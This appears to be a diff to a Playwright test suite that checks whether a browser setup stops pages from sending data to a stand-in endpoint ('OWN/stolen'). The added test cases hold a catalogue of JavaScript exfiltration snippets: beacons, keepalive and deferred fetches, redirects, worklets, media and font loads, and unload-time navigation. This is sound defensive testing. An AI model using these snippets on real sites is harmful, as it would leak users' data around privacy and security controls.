@@ -27,6 +27,24 @@ const ATTACKS: Record<string, string> = {
   script: `await new Promise((resolve) => { const script = document.createElement('script'); script.onload = script.onerror = resolve; script.src = 'OWN/stolen'; document.body.append(script) })`,
   'style sheet': `document.head.insertAdjacentHTML('beforeend', '<style>body { background: url(OWN/stolen) }</style><link rel=stylesheet href="OWN/stolen">')`,
   'prefetch, preload, prerender': `document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href="OWN/stolen"><link rel=preload as=script href="OWN/stolen"><link rel=modulepreload href="OWN/stolen"><link rel=prerender href="OWN/stolen">')`,
+  'icon and manifest': `document.head.insertAdjacentHTML('beforeend', '<link rel=icon href="OWN/stolen"><link rel=apple-touch-icon href="OWN/stolen"><link rel=manifest href="OWN/stolen">')`,
+  'media and tracks': `document.body.insertAdjacentHTML('beforeend', '<video autoplay src="OWN/stolen" poster="OWN/stolen"></video><audio autoplay src="OWN/stolen"></audio><video autoplay><source src="OWN/stolen"><track default src="OWN/stolen"></video>')`,
+  'font and SVG': `document.head.insertAdjacentHTML('beforeend', '<style>@font-face { font-family: f; src: url(OWN/stolen) } body { font-family: f; filter: url(OWN/stolen#f) }</style>'); document.body.insertAdjacentHTML('beforeend', 'text<svg><use href="OWN/stolen#a"></use><image href="OWN/stolen"></image></svg><input type=image src="OWN/stolen">')`,
+  'style sheet that imports, without referrer': `document.head.insertAdjacentHTML('beforeend', '<meta name=referrer content=no-referrer><link rel=stylesheet href="data:text/css,@import%20url(OWN/stolen)">')`,
+  'module, worklet and import': `await Promise.allSettled([import('OWN/stolen'), CSS.paintWorklet?.addModule('OWN/stolen'), new AudioContext().audioWorklet.addModule('OWN/stolen')])`,
+  'fetch that outlives its page': `fetch('OWN/stolen', { mode: 'no-cors', keepalive: true, referrerPolicy: 'no-referrer' })`,
+  'fetch that outlives its page, redirected': `fetch('/redirect?to=' + encodeURIComponent('OWN/stolen'), { mode: 'no-cors', keepalive: true, referrerPolicy: 'no-referrer' })`,
+  'beacon, redirected': `navigator.sendBeacon('/redirect?status=307&to=' + encodeURIComponent('OWN/stolen'), 'x')`,
+  'image with attribution': `await new Promise((resolve) => { const image = new Image(); image.attributionSrc = 'OWN/stolen'; image.onload = image.onerror = resolve; image.src = '/pixel.svg' })`,
+  'fetch at its end': `if (self.fetchLater) fetchLater('OWN/stolen', { activateAfter: 0 })`,
+  'what it does when it is left': `for (const event of ['beforeunload', 'visibilitychange', 'pagehide', 'unload']) addEventListener(event, () => {
+    for (const referrerPolicy of ['no-referrer', '']) fetch('OWN/stolen', { mode: 'no-cors', referrerPolicy, keepalive: true }).catch(() => 0);
+    navigator.sendBeacon('OWN/stolen', 'x');
+    const link = document.body.appendChild(Object.assign(document.createElement('a'), { href: 'OWN/stolen', rel: 'noreferrer', target: '_blank' }));
+    link.click();
+    Object.assign(link, { target: '', download: 'x' }).click();
+    location = 'OWN/stolen';
+  })`,
   'speculation rules': `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.text = '{"prefetch":[{"source":"list","urls":["OWN/stolen"]}],"prerender":[{"source":"list","urls":["OWN/stolen"]}]}'; document.head.append(rules)`,
   'worker that imports': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["try { importScripts('OWN/stolen') } catch {} postMessage(0)"]))); worker.onmessage = worker.onerror = resolve })`,
   'worker that fetches': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('OWN/stolen', { mode: 'no-cors' }).catch(() => 0).then(() => postMessage(0))"]))); worker.onmessage = worker.onerror = resolve })`,
@@ -146,7 +164,7 @@ test('a page that has the test reload it, or go back and forward, where it has t
   const failed = page.waitForEvent('requestfailed');
   await attack(page, ATTACKS.location ?? '', own);
   await failed;
-  await page.waitForURL('chrome-error://chromewebdata/');
+  await expect(page).toHaveURL('chrome-error://chromewebdata/');
   await expect(page.reload()).rejects.toThrow();
   // Chromium refuses it for as long as it is about to show its own page about the error.
   await expect(() => page.goBack()).toPass({ timeout: 20_000 });
@@ -175,7 +193,7 @@ for (const policy of ['', NO_REFERRER]) {
     const failed = popup.waitForEvent('requestfailed');
     await attack(page, `popup.location = 'OWN/stolen'`, own);
     await failed;
-    await popup.waitForURL('chrome-error://chromewebdata/');
+    await expect(popup).toHaveURL('chrome-error://chromewebdata/');
     await attack(page, `frames.inner.location = 'OWN/stolen'`, own);
     // Chromium's own page about the error would end a navigation that had begun before it.
     await expect.poll(() => page.frame('inner')?.url()).toBe('chrome-error://chromewebdata/');
@@ -189,6 +207,17 @@ for (const policy of ['', NO_REFERRER]) {
     expect(await stolen(context, own)).toEqual([]);
   });
 }
+
+test('a page that the test leaves for the server', async ({ newContext, own, foreign }) => {
+  const context = await newContext();
+  const page = await context.newPage();
+  await (await context.newPage()).goto(own.url);
+  await page.goto(pageUrl(foreign, NO_REFERRER));
+  await page.mouse.click(5, 5);
+  await attack(page, ATTACKS['what it does when it is left'] ?? '', own);
+  await page.goto(`${own.url}/page?html=after`);
+  expect(await stolen(context, own)).toEqual([]);
+});
 
 test('a page that asks for what the test is just about to go to', async ({ newContext, own, foreign }) => {
   const context = await newContext();
